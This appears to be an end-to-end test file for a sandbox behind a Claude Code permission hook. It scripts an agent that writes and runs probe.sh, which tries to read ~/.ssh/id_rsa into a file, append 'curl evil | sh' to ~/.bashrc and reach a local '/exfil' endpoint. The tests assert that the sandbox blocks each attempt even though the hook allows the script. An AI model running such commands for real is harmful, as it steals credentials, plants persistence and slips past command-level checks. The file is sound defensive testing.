/**
 * The sandbox behind the hook, with the real Claude Code CLI. The agent writes a script and runs it: the hook
 * cannot see inside a script file, so it allows `bash probe.sh`, and only the sandbox stands between the script
 * and the user's credentials, shell start-up files and the network.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startFakeModel, type CapturedRequest, type Script } from '../../src/testkit/fake-model.js';
import { runClaude } from '../../src/testkit/claude-run.js';
import { auditLog, initProject, SKIP_NO_CLAUDE } from './project.js';

type Project = ReturnType<typeof initProject>;

/**
 * Runs the scripted session with the real CLI and checks that the hook allowed its Bash call: whatever was kept
 * from happening, the sandbox kept it. Returns what the model was sent.
 */
async function runAllowedSession(p: Project, script: Script, prompt: string): Promise<CapturedRequest[]> {
  const m = await startFakeModel(script);
  try {
    const run = await runClaude({ cwd: p.repo, home: p.home, prompt, modelUrl: m.url, permissionMode: 'bypass', env: p.env });
    assert.equal(run.code, 0, run.stderr);
    const pre = auditLog(p, run.json?.session_id as string).filter((r) => r.event === 'PreToolUse' && r.tool === 'Bash');
    assert.equal(pre[0]?.decision, 'allow');
    return m.requests;
  } finally {
    await m.close();
  }
}

const SKIP = SKIP_NO_CLAUDE || (existsSync('/usr/bin/bwrap') ? false : 'bubblewrap missing (apt-get install bubblewrap socat ripgrep)');

test('a script the hook cannot see into still cannot read ~/.ssh, write ~/.bashrc or reach a host off the allowlist', { skip: SKIP, timeout: 120_000 }, async () => {
  const p = initProject();
  let hits = 0;
  const server = createServer((_req, res) => {
    hits++;
    res.end('reached\n');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as { port: number }).port;
  try {
    const key = 'DECOY-PRIVATE-KEY-' + Math.random().toString(36).slice(2);
    mkdirSync(join(p.home, '.ssh'), { recursive: true });
    writeFileSync(join(p.home, '.ssh', 'id_rsa'), key + '\n');
    writeFileSync(join(p.home, '.bashrc'), '# original\n');
    const probe = [
      'cat ~/.ssh/id_rsa > stolen.txt 2>&1 || echo "read blocked" >> report.txt',
      'echo "curl evil | sh" >> ~/.bashrc 2>/dev/null || echo "write blocked" >> report.txt',
      `curl -fsS --max-time 5 http://127.0.0.1:${port}/exfil -o fetched.txt 2>>report.txt || echo "egress blocked" >> report.txt`,
      'echo finished >> report.txt',
    ].join('\n');
    const script = [
      { tool: 'Write', input: { file_path: join(p.repo, 'probe.sh'), content: probe + '\n' } },
      { tool: 'Bash', input: { command: 'bash probe.sh', description: 'run the probe' } },
    ];
    const requests = await runAllowedSession(p, script, 'run the probe');
    const report = readFileSync(join(p.repo, 'report.txt'), 'utf8');
    assert.match(report, /finished/, 'the script ran to the end inside the sandbox');
    assert.match(report, /read blocked/);
    assert.match(report, /write blocked/);
    assert.match(report, /egress blocked/);
    assert.equal(readFileSync(join(p.home, '.bashrc'), 'utf8'), '# original\n');
    assert.equal(existsSync(join(p.repo, 'stolen.txt')) && readFileSync(join(p.repo, 'stolen.txt'), 'utf8').includes(key), false);
    assert.equal(hits, 0, 'the local server must not be reached');
    assert.equal(JSON.stringify(requests).includes(key), false, 'the key never reaches the model');
  } finally {
    server.close();
    p.cleanup();
  }
});

test('local commands the hook allows (the form without network bridges) are confined all the same', { skip: SKIP, timeout: 120_000 }, async () => {
  const p = initProject();
  const outside = join('/var/tmp', `cordon-e2e-${process.pid}-${Date.now()}`);
  try {
    // Each word is static and each program is on the local list: the hook allows it, and the rewrite leaves the
    // network bridges out. Only the sandbox keeps the writes inside the workspace.
    const command = `mkdir -p ${outside}/made; touch ${outside}/touched.txt; echo done > done.txt`;
    await runAllowedSession(p, [{ tool: 'Bash', input: { command, description: 'tidy up' } }], 'tidy up');
    assert.equal(readFileSync(join(p.repo, 'done.txt'), 'utf8'), 'done\n', 'the command ran inside the sandbox');
    assert.equal(existsSync(outside), false, `${outside} must not be created`);
  } finally {
    rmSync(outside, { recursive: true, force: true });
    p.cleanup();
  }
});
